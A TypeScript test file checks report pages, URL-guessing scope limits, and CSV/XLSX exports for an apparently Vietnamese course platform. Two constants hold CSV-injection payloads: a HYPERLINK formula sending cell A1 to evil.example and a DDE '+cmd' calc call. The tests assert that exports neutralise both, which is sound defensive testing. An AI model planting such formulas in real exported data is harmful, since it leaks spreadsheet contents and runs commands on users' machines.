import { first } from "#db/first.ts";
import { writeTx } from "#db/client.server.ts";
import crypto from "node:crypto";
import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, test } from "vitest";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { makeMember, makeTree } from "#tests/factories/org.ts";
import { makeCourse } from "#tests/factories/courses.ts";
import { signedInClient } from "#tests/harness/http.ts";
import { useAppServer } from "#tests/harness/app-suite.ts";
import { certificates, quizAttempts } from "#db/schema/index.ts";
import type { Member } from "#app/org/members.server.ts";
import { createUnit, type Unit } from "#app/org/units.server.ts";
import { getCourse } from "#app/courses/courses.server.ts";
import { assignToUnit, completeLesson, openItem } from "#app/courses/learning.server.ts";
import { takeCompletionSnapshot } from "#app/reports/snapshots.server.ts";
import { addDays, vnDay } from "#app/common/vietnam-time.ts";

/**
 * The report pages and exports over the real server and build: figures per level, the direct
 * members row, a member's record, scope by URL guessing, and the CSV / XLSX files parsed back
 * (BOM, Vietnamese headers, hierarchy columns, neutralised cells, checksum).
 */

const HOUR = 3600_000;
const DAY = 24 * HOUR;
const srv = useAppServer();

let t: Awaited<ReturnType<typeof makeTree>>;
let a3: Unit;
let certCode: string;
let X: number;
let Y: number;
const m: Record<string, Member> = {};
const EVIL_UNIT = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")';
const EVIL_NAME = "+cmd|' /C calc'!A0";

function decode(s: string) {
  return s
    .replaceAll("\u0000", "") // React 18.3.1 streaming can emit NULs at a 2 KB chunk boundary (react/react#31134)
    .replace(/<!--.*?-->/g, "")
    .replace(/<[^>]+>/g, "")
    .replace(/&quot;/g, '"')
    .replace(/&#x27;|&#39;/g, "'")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&")
    .replace(/\s+/g, " ")
    .trim();
}

/** A page's HTML without the NULs React 18.3.1 may stream at a 2 KB boundary (react/react#31134). */
const htmlOf = async (res: Response) => (await res.text()).replaceAll("\u0000", "");

/** The cells of every row of the table with this data-testid (header, body and footer). */
function tableRows(html: string, testId: string): string[][] {
  const m = html.match(new RegExp(`<table[^>]*data-testid="${testId}"[^>]*>([\\s\\S]*?)</table>`));
  if (!m) return [];
  return [...m[1].matchAll(/<tr[^>]*>([\s\S]*?)<\/tr>/g)].map((r) => [...r[1].matchAll(/<t[hd][^>]*>([\s\S]*?)<\/t[hd]>/g)].map((c) => decode(c[1])));
}

async function lessonCourse(slug: string, title: string, at: Date) {
  return (await makeCourse(srv.db, { slug, title, lessons: 2, at })).id;
}

async function complete(member: Member, courseId: number, opened: Date, done: Date) {
  const course = (await getCourse(srv.db, courseId))!;
  for (const key of ["bai-1", "bai-2"]) await openItem(srv.db, member.id, courseId, key, course.publishedVersionId!, opened);
  for (const key of ["bai-1", "bai-2"]) await completeLesson(srv.db, member.id, course, key, done);
}

beforeAll(async () => {
  t = await makeTree(srv.db);
  a3 = await createUnit(srv.db, { code: "A3", name: EVIL_UNIT, parentId: t.a.id });
  const now = Date.now();
  m.admin = await makeMember(srv.db, t.root, { code: "ADMIN", fullName: "Quản Trị Viên", role: "admin" });
  m.trainer = await makeMember(srv.db, t.a, { code: "TRAINER-A", fullName: "Cán Bộ Đào Tạo A", role: "trainer", scopes: [t.a] });
  m.direct = await makeMember(srv.db, t.a, { code: "A-DIRECT", fullName: "Văn Phòng Đảng Ủy A" });
  m.a1done = await makeMember(srv.db, t.a1, { code: "A1-DONE", fullName: "Nguyễn Thị Hoàn" });
  m.a1prog = await makeMember(srv.db, t.a1, { code: "A1-PROG", fullName: "Trần Văn Đang" });
  m.a1none = await makeMember(srv.db, t.a1, { code: "A1-NONE", fullName: "Lê Chưa Vào", password: false });
  m.a2done = await makeMember(srv.db, t.a2, { code: "A2-DONE", fullName: "Phạm Xong" });
  m.evil = await makeMember(srv.db, a3, { code: "A3-EVIL", fullName: EVIL_NAME });
  m.b1 = await makeMember(srv.db, t.b1, { code: "B1-ONE", fullName: "Đỗ Văn Bê" });

  const published = new Date(now - 10 * DAY);
  X = await lessonCourse("nghi-quyet", "Học tập Nghị quyết", published);
  Y = await lessonCourse("chi-b", "Khóa riêng của B", published);
  await assignToUnit(srv.db, { courseId: X, unitId: t.root.id, dueAt: new Date(now - DAY), actorId: null }, published);
  await assignToUnit(srv.db, { courseId: Y, unitId: t.b.id, dueAt: null, actorId: null }, published);
  await complete(m.a1done, X, new Date(now - 3 * HOUR), new Date(now - 2 * HOUR));
  await complete(m.a2done, X, new Date(now - 3 * HOUR), new Date(now - 2 * HOUR));
  await openItem(srv.db, m.a1prog.id, X, "bai-1", (await getCourse(srv.db, X))!.publishedVersionId!, new Date(now - HOUR));

  // Two attempts at a quiz (best 90 %) and a certificate for A1-DONE.
  const attempt = async (no: number, score: number, passed: boolean) =>
    await writeTx(srv.db, async (tx) => tx
      .insert(quizAttempts)
      .values({ memberId: m.a1done.id, courseId: X, itemKey: "kiem-tra", attemptNo: no, seed: `s${no}`, questions: [], state: "submitted", startedAt: new Date(now - 5 * HOUR), submittedAt: new Date(now - 4 * HOUR), score, passed }));
  await attempt(1, 0.6, false);
  await attempt(2, 0.9, true);
  // Completing may already have issued one (certificates module); otherwise record one here.
  await writeTx(srv.db, async (tx) => tx.insert(certificates)
    .values({ code: "CERT-0001", memberId: m.a1done.id, courseId: X, memberName: "Nguyễn Thị Hoàn", unitName: "Chi bộ A1", courseTitle: "Học tập Nghị quyết", completedAt: new Date(now - 2 * HOUR), issuedAt: new Date(now - 2 * HOUR) })
    .onConflictDoNothing());
  certCode = (await first(srv.db.select({ code: certificates.code }).from(certificates).where(eq(certificates.memberId, m.a1done.id))))!.code;
});

const signedIn = (code: string) => signedInClient(srv.origin, code);

describe("pages", () => {
  test("an administrator sees the tree top; figures add up from cells to the root", async () => {
    const c = await signedIn("ADMIN");
    // One root: the overview goes straight to its report.
    const overview = await c.request("/manage/reports");
    expect(overview.status).toBe(302);
    expect(overview.headers.get("location")).toBe(`/manage/reports/units/${t.root.id}`);
    const root = await c.request(`/manage/reports/units/${t.root.id}?c=${X}`);
    expect(root.status).toBe(200);
    const rows = tableRows(await htmlOf(root), "units-table");
    // header, A, B, direct members (the admin sits in ROOT), total
    expect(rows.map((r) => r[0])).toEqual(["Đơn vị", "Đảng ủy A A", "Đảng ủy B B", "Thành viên trực tiếp", "Tổng cộng"]);
    const nums = (r: string[]) => r.slice(1, 6).map(Number);
    //                        assigned completed inProgress notStarted overdue
    expect(nums(rows[1])).toEqual([7, 2, 1, 4, 5]);
    expect(nums(rows[2])).toEqual([1, 0, 0, 1, 1]);
    expect(nums(rows[3])).toEqual([1, 0, 0, 1, 1]);
    expect(nums(rows[4])).toEqual([9, 2, 1, 6, 7]);
    for (let k = 0; k < 5; k++) expect(nums(rows[4])[k]).toBe(nums(rows[1])[k] + nums(rows[2])[k] + nums(rows[3])[k]);
    expect(rows[4][6]).toBe("22,2%");
  });

  test("a trainer drills from committee to cell to member; direct members are their own row", async () => {
    const c = await signedIn("TRAINER-A");
    const overview = await c.request("/manage/reports");
    expect(overview.headers.get("location")).toBe(`/manage/reports/units/${t.a.id}`);
    const aHtml = await htmlOf(await c.request(`/manage/reports/units/${t.a.id}`));
    const rows = tableRows(aHtml, "units-table");
    expect(rows.map((r) => [r[0], ...r.slice(1, 6).map(Number)])).toEqual([
      ["Đơn vị", NaN, NaN, NaN, NaN, NaN],
      // child units by name ("=" sorts before letters), then the direct members
      [`${EVIL_UNIT} A3`, 1, 0, 0, 1, 1],
      ["Chi bộ A1 A1", 3, 1, 1, 1, 2],
      ["Chi bộ A2 A2", 1, 1, 0, 0, 0],
      ["Thành viên trực tiếp", 2, 0, 0, 2, 2],
      ["Tổng cộng", 7, 2, 1, 4, 5],
    ]);
    // The direct members listed under the table sum to the direct row.
    const direct = tableRows(aHtml, "members-table");
    expect(direct.slice(1, -1).map((r) => r[0].split(" ").slice(-1)[0])).toEqual(["TRAINER-A", "A-DIRECT"]);
    expect(direct.at(-1)!.slice(2).map(Number)).toEqual([2, 0, 0, 2, 2]);
    expect(aHtml).toContain('data-testid="chart-bars"');
    expect(aHtml).toContain('data-testid="chart-time"');

    const cell = await htmlOf(await c.request(`/manage/reports/units/${t.a1.id}`));
    const people = tableRows(cell, "members-table");
    expect(people.slice(1, -1).map((r) => r[0])).toEqual(["Lê Chưa Vào A1-NONE Chưa đăng nhập lần nào", "Nguyễn Thị Hoàn A1-DONE", "Trần Văn Đang A1-PROG"]);
    expect(people.at(-1)!.slice(2).map(Number)).toEqual([3, 1, 1, 1, 2]);
    expect(cell).toContain(`/manage/reports/members/${m.a1done.id}`);
  });

  test("a member's record: courses, states, best quiz score and certificates", async () => {
    const c = await signedIn("TRAINER-A");
    const res = await c.request(`/manage/reports/members/${m.a1done.id}`);
    expect(res.status).toBe(200);
    const html = await htmlOf(res);
    const courses = tableRows(html, "record-courses");
    expect(courses.slice(1).map((r) => [r[0], r[1]])).toEqual([["Học tập Nghị quyết", "Đã hoàn thành"]]);
    const quizzes = tableRows(html, "record-quizzes");
    expect(quizzes.slice(1).map((r) => [r[1], r[2], r[3], r[4]])).toEqual([["kiem-tra", "90%", "2", "Có"]]);
    expect(html).toContain(certCode);
  });

  test("the over-time chart reads the daily snapshots", async () => {
    const yesterday = addDays(vnDay(new Date()), -1);
    await takeCompletionSnapshot(srv.db, yesterday);
    const c = await signedIn("TRAINER-A");
    const html = await htmlOf(await c.request(`/manage/reports/units/${t.a.id}?c=${X}`));
    const data = html.slice(html.indexOf('class="chart-data"'));
    const body = data.slice(0, data.indexOf("</table>"));
    const trs = [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].slice(1).map((r) => [...r[1].matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((c) => decode(c[1])));
    // yesterday's snapshot (the members joined today: nobody was placed yet), then today's live figure
    expect(trs.length).toBeGreaterThanOrEqual(1);
    expect(trs.at(-1)!.slice(1, 3)).toEqual(["2", "7"]);
    expect(trs.at(-1)![0]).toContain("hiện tại");
  });

  test("a plain member may not open reports", async () => {
    const c = await signedIn("B1-ONE");
    expect((await c.request("/manage/reports")).status).toBe(403);
    expect((await c.request(`/manage/reports/export?table=units&format=csv`)).status).toBe(403);
  });
});

describe("scope by URL guessing", () => {
  test("a trainer of A gets 404 for everything in B or above A", async () => {
    const c = await signedIn("TRAINER-A");
    for (const id of [t.b.id, t.b1.id, t.root.id, 999_999]) {
      expect((await c.request(`/manage/reports/units/${id}`)).status, `unit ${id}`).toBe(404);
      expect((await c.request(`/manage/reports/units/${id}/missing`)).status).toBe(404);
      expect((await c.request(`/manage/reports/print?unit=${id}`)).status).toBe(404);
      for (const table of ["units", "members", "missing"]) expect((await c.request(`/manage/reports/export?table=${table}&unit=${id}&format=csv`)).status).toBe(404);
    }
    for (const id of [m.b1.id, m.admin.id, 999_999]) {
      const page = await c.request(`/manage/reports/members/${id}`);
      expect(page.status).toBe(404);
      expect(await htmlOf(page)).not.toContain("Đỗ Văn Bê");
      for (const table of ["record", "quizzes"]) expect((await c.request(`/manage/reports/export?table=${table}&member=${id}&format=xlsx`)).status).toBe(404);
    }
    // A course assigned only to B is not one A may report on.
    expect((await c.request(`/manage/reports/units/${t.a.id}?c=${Y}`)).status).toBe(404);
    expect((await c.request(`/manage/reports/units/${t.a.id}/missing?course=${Y}`)).status).toBe(404);
    // Reminding someone outside the subtree by posting their id to A's list.
    const post = await c.request(`/manage/reports/units/${t.a.id}/missing?course=${X}`, { form: { intent: "remind", memberId: String(m.b1.id) } });
    expect(post.status).toBe(404);
    expect((await c.request(`/manage/reports/units/${t.b.id}/missing?course=${Y}`, { form: { intent: "remind-all" } })).status).toBe(404);
    // Malformed input is a 400, not a crash.
    expect((await c.request(`/manage/reports/units/${t.a.id}?date=2025-02-30`)).status).toBe(400);
    expect((await c.request(`/manage/reports/units/${t.a.id}?c=abc`)).status).toBe(400);
    expect((await c.request(`/manage/reports/export?table=nope`)).status).toBe(400);
  });
});

// ---- exports -------------------------------------------------------------------------------------

/** The body as sent: Response.text() would drop the BOM we want to see. */
async function rawText(res: Response): Promise<string> {
  expect(res.status).toBe(200);
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
}

type ParsedCsv = { meta: Map<string, string>; header: string[]; rows: string[][]; dataText: string };

function parseCsvExport(text: string): ParsedCsv {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const body = text.slice(1);
  const records: string[][] = parse(body, { relax_column_count: true, skip_empty_lines: false });
  const blank = records.findIndex((r) => r.length === 1 && r[0] === "");
  const meta = new Map(records.slice(0, blank).map((r) => [r[0], r[1]]));
  const header = records[blank + 1];
  // The checksummed part: every byte after the header line.
  const headerEnd = body.indexOf("\r\n", body.indexOf("\r\n\r\n") + 4) + 2;
  return { meta, header, rows: records.slice(blank + 2), dataText: body.slice(headerEnd) };
}

const sha256 = (s: string) => crypto.createHash("sha256").update(s, "utf8").digest("hex");
const CHECKSUM = "Mã kiểm tra SHA-256 của các dòng dữ liệu";

describe("exports", () => {
  test("units CSV: BOM, Vietnamese headers, hierarchy, neutralised cells, checksum, figures add up", async () => {
    const c = await signedIn("TRAINER-A");
    const res = await c.request(`/manage/reports/export?table=units&unit=${t.a.id}&format=csv&c=${X}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("text/csv");
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="bao-cao-don-vi-A-\d{4}-\d{2}-\d{2}\.csv"/);
    const csv = parseCsvExport(await rawText(res));
    expect(csv.header).toEqual(["Cấp 1", "Cấp 2", "Cấp 3", "Mã đơn vị", "Loại dòng", "Được giao", "Đã hoàn thành", "Đang học", "Chưa bắt đầu", "Quá hạn", "Tỷ lệ hoàn thành (%)"]);
    expect(csv.meta.get("Báo cáo")).toBe("Tiến độ hoàn thành khóa học theo đơn vị");
    expect(csv.meta.get("Khóa học")).toBe("Học tập Nghị quyết");
    expect(csv.meta.get("Đơn vị")).toBe("Đảng ủy A (A)");
    expect(csv.meta.get("Thời điểm tạo")).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2} \(\d{4}-.*Z\)$/);
    expect(Number(csv.meta.get("Số dòng dữ liệu"))).toBe(csv.rows.length);
    // Checksum: over the data lines exactly as written; the same in the response header.
    expect(csv.meta.get(CHECKSUM)).toBe(sha256(csv.dataText));
    expect(res.headers.get("x-report-checksum")).toBe(csv.meta.get(CHECKSUM));
    // Unit A, its direct members, then each cell, with the path of names.
    expect(csv.rows.map((r) => [r[0], r[1], r[2], r[3], r[4]])).toEqual([
      ["Đảng bộ Trung ương", "Đảng ủy A", "", "A", "Đơn vị (gồm các đơn vị trực thuộc)"],
      ["Đảng bộ Trung ương", "Đảng ủy A", "", "A", "Thành viên trực tiếp của đơn vị"],
      ["Đảng bộ Trung ương", "Đảng ủy A", "Chi bộ A1", "A1", "Đơn vị (gồm các đơn vị trực thuộc)"],
      ["Đảng bộ Trung ương", "Đảng ủy A", "Chi bộ A2", "A2", "Đơn vị (gồm các đơn vị trực thuộc)"],
      ["Đảng bộ Trung ương", "Đảng ủy A", `'${EVIL_UNIT}`, "A3", "Đơn vị (gồm các đơn vị trực thuộc)"],
    ]);
    const n = (r: string[]) => r.slice(5, 10).map(Number);
    expect(n(csv.rows[0])).toEqual([7, 2, 1, 4, 5]);
    for (let k = 0; k < 5; k++) expect(n(csv.rows[0])[k]).toBe(n(csv.rows[1])[k] + n(csv.rows[2])[k] + n(csv.rows[3])[k] + n(csv.rows[4])[k]);
    expect(csv.rows[0][10]).toBe("28.6");
    // Same data twice: same checksum, though generated at another time.
    const again = parseCsvExport(await rawText(await c.request(`/manage/reports/export?table=units&unit=${t.a.id}&format=csv&c=${X}`)));
    expect(again.meta.get(CHECKSUM)).toBe(csv.meta.get(CHECKSUM));
  });

  test("units XLSX: the same rows, headers and checksum as the CSV; text neutralised, numbers numeric", async () => {
    const c = await signedIn("TRAINER-A");
    const csv = parseCsvExport(await rawText(await c.request(`/manage/reports/export?table=units&unit=${t.a.id}&format=csv&c=${X}`)));
    const res = await c.request(`/manage/reports/export?table=units&unit=${t.a.id}&format=xlsx&c=${X}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Dữ liệu", "Thông tin"]);
    const ws = wb.getWorksheet("Dữ liệu")!;
    const values = (row: number) => (ws.getRow(row).values as unknown[]).slice(1);
    expect(values(1)).toEqual(csv.header);
    expect(ws.rowCount).toBe(csv.rows.length + 1);
    for (let i = 0; i < csv.rows.length; i++) {
      // row.values is sparse: empty cells are holes, which .map would keep as holes
      const got = Array.from(values(i + 2), (v) => (v == null ? "" : String(v)));
      while (got.length < csv.rows[i].length) got.push("");
      expect(got).toEqual(csv.rows[i]);
    }
    expect(typeof ws.getRow(2).getCell(6).value).toBe("number");
    expect(ws.getRow(6).getCell(3).value).toBe(`'${EVIL_UNIT}`);
    const info = wb.getWorksheet("Thông tin")!;
    const meta = new Map<string, unknown>();
    info.eachRow((r) => meta.set(String(r.getCell(1).value), r.getCell(2).value));
    expect(meta.get(CHECKSUM)).toBe(csv.meta.get(CHECKSUM));
    expect(String(meta.get("Thời điểm tạo"))).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}/);
    expect(meta.get("Khóa học")).toBe("Học tập Nghị quyết");
  });

  test("members export: one row per assigned (member, course) pair; names neutralised", async () => {
    const c = await signedIn("TRAINER-A");
    const csv = parseCsvExport(await rawText(await c.request(`/manage/reports/export?table=members&unit=${t.a.id}&format=csv`)));
    expect(csv.header.slice(3)).toEqual(["Mã đơn vị", "Mã đảng viên", "Họ và tên", "Chưa đăng nhập lần nào", "Khóa học", "Tình trạng", "Quá hạn", "Hạn hoàn thành", "Hoàn thành lúc"]);
    expect(csv.rows.length).toBe(7);
    expect(csv.meta.get(CHECKSUM)).toBe(sha256(csv.dataText));
    const evil = csv.rows.find((r) => r[4] === "A3-EVIL")!;
    expect(evil[5]).toBe(`'${EVIL_NAME}`);
    expect(evil[2]).toBe(`'${EVIL_UNIT}`);
    expect(csv.rows.filter((r) => r[8] === "Đã hoàn thành").map((r) => r[4]).sort()).toEqual(["A1-DONE", "A2-DONE"]);
    expect(csv.rows.find((r) => r[4] === "A1-NONE")![6]).toBe("Có");
  });

  test("missing, record and quiz exports parse back", async () => {
    const c = await signedIn("TRAINER-A");
    const missing = parseCsvExport(await rawText(await c.request(`/manage/reports/export?table=missing&unit=${t.a1.id}&course=${X}&format=csv`)));
    expect(missing.rows.map((r) => [r[4], r[6], r[7]])).toEqual([
      ["A1-NONE", "Chưa bắt đầu", "Có"],
      ["A1-PROG", "Đang học", "Có"],
    ]);
    const record = await c.request(`/manage/reports/export?table=record&member=${m.a1done.id}&format=xlsx`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await record.arrayBuffer()) as never);
    const rows: unknown[][] = [];
    wb.getWorksheet("Dữ liệu")!.eachRow((r) => rows.push((r.values as unknown[]).slice(1)));
    expect(rows[0][0]).toBe("Khóa học");
    expect(rows[1].slice(0, 3)).toEqual(["Học tập Nghị quyết", "Có", "Đã hoàn thành"]);
    const quizzes = parseCsvExport(await rawText(await c.request(`/manage/reports/export?table=quizzes&member=${m.a1done.id}&format=csv`)));
    expect(quizzes.rows).toEqual([["Học tập Nghị quyết", "kiem-tra", "90", "2", "Có"]]);
  });

  test("the print page names the unit and the day and shows the export's checksum", async () => {
    const c = await signedIn("TRAINER-A");
    const csv = parseCsvExport(await rawText(await c.request(`/manage/reports/export?table=units&unit=${t.a.id}&format=csv&c=${X}`)));
    const res = await c.request(`/manage/reports/print?unit=${t.a.id}&c=${X}`);
    expect(res.status).toBe(200);
    const html = await htmlOf(res);
    expect(html).toContain("Đảng ủy A (A)");
    expect(html).toContain(csv.meta.get(CHECKSUM)!);
    expect(tableRows(html, "units-table").at(-1)!.slice(1, 6).map(Number)).toEqual([7, 2, 1, 4, 5]);
    // The page where a trainer checks an export states the one rule every export follows.
    const rule = decode(/data-testid="verify-rule"[\s\S]*?<\/section>/.exec(html)![0]);
    expect(rule).toContain("Cách kiểm tra một tệp xuất");
    expect(rule).toContain("điểm danh một phiên, danh sách thành viên");
    expect(rule).toContain("SHA-256 của các dòng dữ liệu viết dạng CSV");
    expect(rule).toContain("tail -n +K tệp.csv | sha256sum");
  });
});
